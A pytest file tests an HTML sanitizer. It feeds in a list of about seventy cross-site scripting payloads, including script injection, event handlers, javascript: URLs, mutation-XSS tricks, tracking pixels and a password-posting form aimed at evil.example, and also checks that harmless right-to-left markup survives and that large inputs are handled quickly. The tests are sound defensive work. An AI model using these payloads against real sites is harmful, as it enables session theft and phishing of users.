"""Rich text: what stays, what goes, and that nothing in it acts."""

import re
from collections.abc import Callable
from html.parser import HTMLParser
from time import process_time

import pytest

from kesher.lib import html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img srcset='http://evil.example/x 1x'>",
    "<img src=http://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='/\\evil.example/pixel.gif'>",
    "<img src='/a/../../logout?x=1'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='cid:part1'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x#y'></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='x' style='position:fixed;inset:0'>x</a>",
    "<a href='x' onmouseover=alert(1)>x</a>",
    "<a target=_blank rel=opener href='http://evil.example'>x</a>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<form action=http://evil.example><input name=password><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=http://evil.example/x>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background='http://evil.example/x'><tr><td>x</td></tr></table>",
    "<p id=login class=modal name=x>x</p>",
    "<p hx-get='/x' hx-trigger=load data-hx-get='/x'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<p dir='\"><script>alert(1)</script>'>x</p>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "\ud800<img src=x onerror=alert(1)>",
]

SAFE_LINK = re.compile(r"https?://|mailto:|tel:|/|x$")
ALLOWED = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "abbr": {"title"},
    "ol": {"start"},
}
FORBIDDEN_TAGS = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button",
    "link", "meta", "base", "video", "audio", "source", "template", "noscript", "textarea",
    "select", "details", "marquee", "body", "custom-element", "xmp", "use", "animate",
}  # fmt: skip


class Inspector(HTMLParser):
    """Collects whatever a browser could act upon."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()) | {"dir"}:
                self.faults.append(f"{tag} {name}")
            if name == "href" and not SAFE_LINK.match(value or ""):
                self.faults.append(f"{tag} {name}={value}")
            if name == "src" and not re.fullmatch(r"/[\w./-]+", value or ""):
                self.faults.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<p dir=auto>שלום {} עולם</p>", "<table><tr><td>{}"])
def test_nothing_acts(attack: str, around: str) -> None:
    inspector = Inspector()

    inspector.feed(html.sanitize(around.format(attack)))
    inspector.close()

    assert inspector.faults == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_made_safe_once_stays_as_it_is(attack: str) -> None:
    safe = html.sanitize(attack)

    assert html.sanitize(safe) == safe


@pytest.mark.parametrize(
    "kept",
    [
        '<p dir="auto">שלום <b>עולם</b></p>',
        '<ul dir="rtl"><li>אחת</li><li>שתיים</li></ul>',
        '<ol start="3"><li>x</li></ol>',
        '<blockquote dir="ltr">x<br>y</blockquote>',
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        '<img src="/files/0198-aa/logo.png" alt="לוגו" width="10">',
        "<h2>כותרת</h2>",
        "<pre><code>a  b</code></pre>",
        "5 &lt; 6 &amp; 7 &gt; 2",
        "👨\u200d👩\u200d👧",
    ],
)
def test_honest_markup_stays(kept: str) -> None:
    assert html.sanitize(kept) == kept


def test_links_say_nothing_about_where_they_stood() -> None:
    assert (
        html.sanitize('<a href="https://example.com/a?b=1&c=2">x</a>')
        == '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener nofollow">x</a>'
    )
    assert 'href="mailto:a@b.il"' in html.sanitize('<a href="mailto:a@b.il">x</a>')
    assert 'href="tel:*2700"' in html.sanitize('<a href="tel:*2700">x</a>')


def test_direction_has_three_values() -> None:
    assert html.sanitize('<p dir="evil">x</p>') == "<p>x</p>"


def test_hidden_characters_go_even_when_written_as_entities() -> None:
    assert html.sanitize("<b>a\u202eb&#x202e;c</b>") == "<b>abc</b>"
    assert html.sanitize("a&#x202e;b") == "ab"


def test_markup_without_end_is_kept_as_text() -> None:
    endless = "<div>" * 9000 + "שלום &lt;b&gt; <script>"

    assert html.sanitize(endless) == "שלום &lt;b&gt;"
    assert html.to_text(endless) == "שלום <b>"


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>שלום <b>עולם</b></p><p>שורה</p>", "שלום עולם\nשורה"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
        ("<table><tr><td>a</td></tr><tr><td>b</td></tr></table>", "a\nb"),
        ("a<div>b</div><div>c</div>", "a\nb\nc"),
        ("<p>a</p> <div>b</div>c <ul><li>d</li></ul>", "a\nb\nc\nd"),
        ("a\n  b\t c", "a b c"),
        ("5 &lt; 6 &amp;&amp; x", "5 < 6 && x"),
        ("a < b", "a < b"),
        ("<p>&lt;script&gt;</p>", "<script>"),
        ("<script>alert(1)</script>x<style>p{}</style>", "x"),
        ("<p>a</p>" + "<p></p>" * 5 + "<p>b</p>", "a\n\nb"),
        ("", ""),
    ],
)
def test_the_words_alone(markup: str, text: str) -> None:
    assert html.to_text(markup) == text


@pytest.mark.parametrize("unit", ["<", ">", "&", "a", " ", "\n", '"', "ש", "\0", ";"])
@pytest.mark.parametrize("function", [html.sanitize, html.to_text])
def test_a_megabyte_of_one_character_takes_no_time(
    function: Callable[[str], str], unit: str
) -> None:
    text = unit * (1_000_000 // len(unit.encode()))

    # A tenth of a second as a rule; anything quadratic would take minutes.
    assert min(seconds(function, text) for _ in range(5)) < 0.4


@pytest.mark.parametrize(
    "unit",
    ["<div>", "<b>", "<ul><li>", "<a><div>", "</p>", "<div></p>", "<!--", "<a href=", "&#", "<svg>",
     "<details>", "<table><tr><td>", "&amp;"],
)  # fmt: skip
@pytest.mark.parametrize("function", [html.sanitize, html.to_text])
@pytest.mark.parametrize("times", [4000, 200_000])
def test_no_markup_holds_a_worker(function: Callable[[str], str], unit: str, times: int) -> None:
    assert min(seconds(function, unit * times) for _ in range(2)) < 1.5


def seconds(function: Callable[[str], str], text: str) -> float:
    began = process_time()
    function(text)
    return process_time() - began
